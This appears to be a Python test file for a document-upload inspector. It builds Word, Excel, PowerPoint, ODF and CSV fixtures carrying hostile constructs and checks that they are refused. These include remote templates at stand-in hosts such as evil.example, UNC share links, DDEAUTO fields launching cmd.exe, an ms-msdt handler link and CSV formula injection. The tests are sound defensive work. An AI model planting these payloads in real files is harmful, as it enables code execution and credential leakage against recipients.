"""Zip documents: what would run or be fetched is found in every spelling; oddities are kept."""

import pytest

from tests.hostile import (
    box,
    film,
    ofd,
    open_document,
    slides,
    with_entries,
    word,
    workbook,
)
from township.files import inspector
from township.files.checks import Refusal
from township.files.checks.places import is_link, is_remote

KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def relations(kind, target, *, quote='"', mode="External", encoding="utf-8", prefix=""):
    q = quote
    more = f" TargetMode={q}{mode}{q}" if mode else ""
    return (
        f"<?xml version='1.0' encoding='{encoding}'?><{prefix}Relationships "
        f"xmlns{':r' * bool(prefix)}='http://schemas.openxmlformats.org/package/2006/relationships'>"
        f"<{prefix}Relationship "
        f"Id={q}r1{q} Type={q}{KIND}{kind}{q} Target={q}{target}{q}{more}/></{prefix}Relationships>"
    ).encode(encoding)


def word_related(*given, **more):
    return with_entries(word(), {"word/_rels/settings.xml.rels": relations(*given, **more)})


def word_saying(body, root="document"):
    part = f"<w:{root} {W}><w:body><w:p>{body}</w:p></w:body></w:{root}>"
    name = {"hdr": "word/header9.xml"}.get(root, "word/document.xml")
    return with_entries(word(), {name: part})


def code(*pieces, tag="instrText"):
    runs = "".join(f"<w:r><w:{tag}>{piece}</w:{tag}></w:r>" for piece in pieces)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return begin + runs + end


def sheet_related(entries):
    return with_entries(workbook(), entries)


REFUSED = {
    "template": lambda: word_related("attachedTemplate", "https://evil.example/t.dotm"),
    "single quotes": lambda: word_related("attachedTemplate", "http://e.cn/t.dotm", quote="'"),
    "UTF-16": lambda: word_related("attachedTemplate", "http://e.cn/t.dotm", encoding="utf-16"),
    "Latin-1": lambda: word_related("attachedTemplate", "http://e.cn/t", encoding="iso-8859-1"),
    "prefix": lambda: word_related("attachedTemplate", "http://e.cn/t.dotm", prefix="r:"),
    "written in numbers": lambda: word_related("attachedTemplate", "&#104;ttp&#x3a;//e.cn/t.dotm"),
    "mode left out": lambda: word_related("attachedTemplate", "http://e.cn/t.dotm", mode=""),
    "mode in capitals": lambda: word_related("attachedTemplate", "HTTP://e.cn/t", mode="EXTERNAL"),
    "strict": lambda: with_entries(
        word(),
        {
            "word/_rels/settings.xml.rels": relations("attachedTemplate", "http://e.cn/t").replace(
                KIND.encode(), b"http://purl.oclc.org/ooxml/officeDocument/relationships/"
            )
        },
    ),
    "share": lambda: word_related("attachedTemplate", r"\\evil\share\t.dotm"),
    "share as a file": lambda: word_related("attachedTemplate", "file://evil/share/t.dotm"),
    "share in five strokes": lambda: word_related("attachedTemplate", "file://///evil/share/t"),
    "picture of a share": lambda: word_related("image", r"\\evil\share\p.png"),
    "picture of the web": lambda: word_related("image", "http://e.cn/p.png"),
    "object": lambda: word_related("oleObject", "mhtml:http://e.cn/x.html!x"),
    "frame": lambda: word_related("frame", "http://e.cn/"),
    "subdocument": lambda: word_related("subDocument", "//evil/share/a.docx"),
    "film of the web": lambda: with_entries(
        slides(), {"ppt/slides/_rels/slide1.xml.rels": relations("video", "http://e.cn/v.mp4")}
    ),
    "workbook elsewhere": lambda: sheet_related(
        {"xl/externalLinks/_rels/e.xml.rels": relations("externalLinkPath", "http://e.cn/a.xlsx")}
    ),
    "chunk": lambda: word_related("aFChunk", "afchunk.mht", mode=""),
    "DDE": lambda: word_saying(code(" DDE cmd /c calc ")),
    "DDEAUTO": lambda: word_saying(code(r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" ')),
    "DDE over runs": lambda: word_saying(code(" D", "DE", "AU", "TO cmd")),
    "DDE in small letters": lambda: word_saying(code("ddeauto cmd")),
    "DDE in quotes": lambda: word_saying(code('"DDEAUTO" cmd')),
    "DDE in a simple field": lambda: word_saying('<w:fldSimple w:instr="DDEAUTO cmd"/>'),
    "DDE in a header": lambda: word_saying(code("DDEAUTO cmd"), root="hdr"),
    "DDE within a field": lambda: word_saying(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1=1 </w:instrText></w:r>'
        + code("DDEAUTO cmd")
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    ),
    "DDE without an end": lambda: word_saying("<w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>"),
    "DDE far down": lambda: word_saying("字" * 1_500_000 + code("DDEAUTO cmd")),
    "picture fetched by a field": lambda: word_saying(code('INCLUDEPICTURE "http://e.cn/p.png"')),
    "text fetched from a share": lambda: word_saying(
        code(r'INCLUDETEXT "\\\\evil\\share\\a.docx"')
    ),
    "DDE of a workbook": lambda: sheet_related(
        {"xl/externalLinks/e.xml": "<externalLink><ddeLink ddeService='cmd'/></externalLink>"}
    ),
    "web query": lambda: sheet_related(
        {
            "xl/connections.xml": "<connections><connection><webPr url='http://e.cn'/></connection></connections>"
        }
    ),
    "part under another name": lambda: with_entries(
        word(), {"word/story.dat": f"<w:document {W}>{code('DDEAUTO cmd')}</w:document>"}
    ),
    "ODF picture": lambda: open_document(
        extra={
            "styles.xml": '<o:document-styles xmlns:o="o" xmlns:x="x"><o:image x:href="http://e.cn/p"/></o:document-styles>'
        }
    ),
    "ODF exchange": lambda: open_document(
        extra={
            "content.xml": '<o:document-content xmlns:o="o"><o:dde-source/></o:document-content>'
        }
    ),
    "link to a share": lambda: word_related("hyperlink", r"\\office\公文\a.docx"),
    "link to a share as a file": lambda: word_related("hyperlink", "file://///office/a.docx"),
    "link to a program": lambda: word_related("hyperlink", r"C:\Windows\System32\calc.exe"),
    "link to a handler": lambda: word_related("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "link to a share in a field": lambda: word_saying(
        code(r' HYPERLINK "\\\\evil\\share\\a.docx" ')
    ),
    "ODF link to a share": lambda: open_document(
        extra={
            "styles.xml": '<o:document-styles xmlns:o="o" xmlns:x="x"><o:a x:href="file://e/a"/></o:document-styles>'
        }
    ),
    "control": lambda: word_related("control", "activeX/activeX1.xml", mode=""),
    "control by its part": lambda: with_entries(
        word(),
        {"word/x.dat": '<x:ocx xmlns:x="http://schemas.microsoft.com/office/2006/activeX"/>'},
    ),
    "database": lambda: sheet_related(
        {"xl/connections.xml": "<connections><connection><dbPr/></connection></connections>"}
    ),
}
KEPT = {
    "link": lambda: word_related("hyperlink", "https://www.gov.cn/"),
    "link without its scheme": lambda: word_related("hyperlink", "www.gov.com"),
    "link left by a web page": lambda: word_related("hyperlink", "javascript:void(0)"),
    "link to a file beside it": lambda: word_related("hyperlink", "附件1.pdf"),
    "link in a field": lambda: word_saying(code(' HYPERLINK "https://www.gov.cn/" ')),
    "link of a table of contents": lambda: word_saying(code(r' HYPERLINK \l "_Toc1" ')),
    "local template": lambda: word_related("attachedTemplate", r"file:///C:\Users\a\Normal.dotm"),
    "local template without a scheme": lambda: word_related("attachedTemplate", r"D:\a\b.dot"),
    "picture on the writer's disk": lambda: word_related("image", "file:///D:/a/p.png"),
    "workbook on the writer's disk": lambda: sheet_related(
        {"xl/externalLinks/_rels/e.xml.rels": relations("externalLinkPath", "file:///D:\\a.xlsx")}
    ),
    "dangling": lambda: word_related("image", "NULL", mode=""),
    "bookmark named after it": lambda: word_saying(code(r" REF DDE_LINK1 \h ")),
    "table of contents": lambda: word_saying(code(r' TOC \o "1-3" \h ')),
    "written about it": lambda: word_saying("<w:r><w:t>DDEAUTO cmd</w:t></w:r>"),
    "slash in front": lambda: with_entries(word(), {"/word/media/p.txt": "x"}),
    "ODF link": lambda: open_document(
        extra={
            "styles.xml": '<o:document-styles xmlns:o="o" xmlns:x="x"><o:a x:href="http://e.cn/"/></o:document-styles>'
        }
    ),
    "OFD with a slash": lambda: ofd({"/Doc_0/Res/image_1.png": b"x"}),
    "OFD with strokes of Windows": lambda: ofd({"Doc_0\\Res\\image_2.png": b"x"}),
    "OFD with its own folder in front": lambda: ofd({"./Doc_0/Res/image_3.png": b"x"}),
}
ENDINGS = {b"word/": ".docx", b"xl/": ".xlsx", b"ppt/": ".pptx", b"OFD": ".ofd"}


def examined(folder, content, name=""):
    path = folder / "a"
    path.write_bytes(content)
    ending = next((end for sign, end in ENDINGS.items() if sign in content), ".odt")
    return inspector.examine(path, name or f"章程{ending}")


@pytest.mark.parametrize("build", REFUSED.values(), ids=REFUSED)
def test_what_would_run_or_be_fetched_is_refused(tmp_path, build):
    told = r"会从别处载入|会运行程序|另一种格式|指向共享文件夹或程序|ActiveX"
    with pytest.raises(Refusal, match=told):
        examined(tmp_path, build())


@pytest.mark.parametrize("build", KEPT.values(), ids=KEPT)
def test_a_harmless_oddity_is_kept(tmp_path, build):
    assert examined(tmp_path, build())["pages"] is None


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("村务公开\n" * 3000 + "<ScRipt>alert(1)</script>", "网页"),
        ("村务公开\n" * 500_000 + "<iframe src=x>", "网页"),
        ("姓名,电话\n=cmd|'/c calc'!A1,1\n", "会运行程序"),
        ("姓名\t电话\n张三\t@SUM(1)+cmd|'/c calc'!A0\n", "会运行程序"),
    ],
    ids=["script far down", "frame at the end", "cell that starts a program", "behind a sum"],
)
def test_a_text_is_looked_through_to_its_end(tmp_path, text, words):
    with pytest.raises(Refusal, match=words):
        examined(tmp_path, text.encode(), "公示.csv")


@pytest.mark.parametrize("text", ["a < b，c > d", "3|5\n=A1+B1\n", "见 http://www.gov.cn/"])
def test_signs_of_another_meaning_stay(tmp_path, text):
    assert examined(tmp_path, text.encode(), "说明.csv")["media_type"] == "text/csv"


def test_a_film_of_boxes_without_end_is_refused(tmp_path):
    with pytest.raises(Refusal, match="展开后大得不正常"):
        examined(tmp_path, film() + box(b"free", b"") * 200_000, "会议.mp4")
    assert examined(tmp_path, film() + box(b"moof", b"1") * 9_000, "会议.mp4")["pages"] == 0


@pytest.mark.parametrize(
    ("place", "is_away", "may_be_clicked"),
    [
        ("http://e.cn", True, True),
        (" hTTps://e.cn", True, True),
        ("h\nttp://e.cn", True, True),
        (r"\\evil\a", True, False),
        ("//evil/a", True, False),
        (r"\/evil/a", True, False),
        ("%5c%5cevil%5ca", True, False),
        ("file://evil/a", True, False),
        ("file:////evil/a", True, False),
        (r"file:\\evil\a", True, False),
        ("javascript:x", True, False),
        ("ms-msdt:/id", True, False),
        ("mailto:a@b.cn", True, True),
        ("file:///C:/a.docx", False, False),
        ("file://localhost/C:/a", False, False),
        ("file:C:/a", False, False),
        (r"C:\a.docx", False, False),
        ("../media/p.png", False, False),
        ("/word/p.png", False, False),
        ("", False, False),
    ],
)
def test_what_leads_to_another_machine(place, is_away, may_be_clicked):
    assert (is_remote(place), is_link(place)) == (is_away, may_be_clicked)
